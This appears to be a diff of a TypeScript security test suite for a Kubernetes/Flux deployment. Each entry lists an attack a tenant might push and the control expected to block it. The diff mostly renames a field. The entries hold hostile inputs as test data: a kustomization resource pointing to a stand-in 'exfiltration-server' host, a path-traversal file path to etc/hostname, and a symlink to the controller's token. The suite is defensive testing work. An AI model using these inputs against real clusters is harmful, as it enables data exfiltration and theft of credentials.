@@ -29,7 +29,7 @@ export const repositoryContent: readonly Attack[] = [
     title: "pushes a kustomization with a file of another host",
     category,
     by: "push",
-    stoppedBy: [{ control: "remote-files", says: /remote-files-are-not-allowed\.invalid/ }],
+    stoppedBy: [{ control: "remote-files", message: /remote-files-are-not-allowed\.invalid/ }],
     attempt: (place) => ({
       ...kustomized(place, "remote-file", { resources: ["http://files.example.com/stolen.yaml"] }),
       evidence: reference("v1", "ConfigMap", "from-elsewhere", place.namespace),
@@ -40,7 +40,7 @@ export const repositoryContent: readonly Attack[] = [
     title: "pushes a chart with a dependency that is fetched unencrypted, from a host that nobody allowed",
     category,
     by: "push",
-    stoppedBy: [{ control: "plain-http", says: /unencrypted-sources-are-not-allowed\.invalid/ }],
+    stoppedBy: [{ control: "plain-http", message: /unencrypted-sources-are-not-allowed\.invalid/ }],
     attempt: (place) => ({
       kind: "sync",
       object: ownChart(place, "chart-dependency"),
@@ -60,10 +60,10 @@ export const repositoryContent: readonly Attack[] = [
     title: "pushes a kustomization with a file of a Service within the cluster, which hears whatever is sent to it",
     category,
     by: "push",
-    stoppedBy: [{ control: "remote-files", says: /remote-files-are-not-allowed\.invalid/ }],
+    stoppedBy: [{ control: "remote-files", message: /remote-files-are-not-allowed\.invalid/ }],
     attempt: (place) => ({
       ...kustomized(place, "file-of-a-service", {
-        resources: [`http://thief.${place.namespace}.svc.cluster.local/config.yaml`],
+        resources: [`http://exfiltration-server.${place.namespace}.svc.cluster.local/config.yaml`],
       }),
       evidence: "ready",
     }),
@@ -74,8 +74,8 @@ export const repositoryContent: readonly Attack[] = [
     category,
     by: "push",
     stoppedBy: [
-      { control: "git-protocols", says: /transport 'http' not allowed/ },
-      { control: "remote-bases", says: /fs-security-constraint|must build at directory/ },
+      { control: "git-protocols", message: /transport 'http' not allowed/ },
+      { control: "remote-bases", message: /fs-security-constraint|must build at directory/ },
     ],
     attempt: (place) =>
       kustomized(place, "remote-base", { resources: [`${place.gitHub}acme/shared-bases.git//base?ref=main`] }),
@@ -86,8 +86,8 @@ export const repositoryContent: readonly Attack[] = [
     category,
     by: "reconciler",
     stoppedBy: [
-      { control: "fleet-flux-sync", says: /spec\.kubeConfig leads to another cluster: remove it/ },
-      { control: "exec-plugins", says: /Unauthorized|asked for the client to provide credentials|forbidden/ },
+      { control: "fleet-flux-sync", message: /spec\.kubeConfig leads to another cluster: remove it/ },
+      { control: "exec-plugins", message: /Unauthorized|asked for the client to provide credentials|forbidden/ },
     ],
     attempt: (place) => ({
       kind: "sync",
@@ -102,7 +102,7 @@ export const repositoryContent: readonly Attack[] = [
     title: "pushes a symbolic link to a file of the controller",
     category,
     by: "push",
-    stoppedBy: [{ control: "regular-files", says: /attacks\/symbolic-link\/token: no such file or directory/ }],
+    stoppedBy: [{ control: "regular-files", message: /attacks\/symbolic-link\/token: no such file or directory/ }],
     attempt: (place) =>
       kustomized(
         place,
@@ -123,7 +123,7 @@ export const repositoryContent: readonly Attack[] = [
     title: "pushes a kustomization that reads files outside the repository",
     category,
     by: "push",
-    stoppedBy: [{ control: "secure-file-system", says: /fs-security-constraint .* is not in or below/ }],
+    stoppedBy: [{ control: "secure-file-system", message: /fs-security-constraint .* is not in or below/ }],
     attempt: (place) =>
       kustomized(place, "path-traversal", {
         configMapGenerator: [{ name: "path-traversal", files: [`${"../".repeat(30)}etc/hostname`] }],
@@ -142,7 +142,7 @@ export const repositoryContent: readonly Attack[] = [
     title: "pushes a kustomization that runs helm in kustomize-controller",
     category,
     by: "push",
-    stoppedBy: [{ control: "no-plugins", says: /builtin HelmChartInflationGenerator/ }],
+    stoppedBy: [{ control: "no-plugins", message: /builtin HelmChartInflationGenerator/ }],
     attempt: (place) =>
       kustomized(
         place,
@@ -166,7 +166,7 @@ export const repositoryContent: readonly Attack[] = [
     title: "pushes a kustomization that runs a program in kustomize-controller",
     category,
     by: "push",
-    stoppedBy: [{ control: "no-plugins", says: /external plugins disabled/ }],
+    stoppedBy: [{ control: "no-plugins", message: /external plugins disabled/ }],
     attempt: (place) => ({
       ...kustomized(
         place,
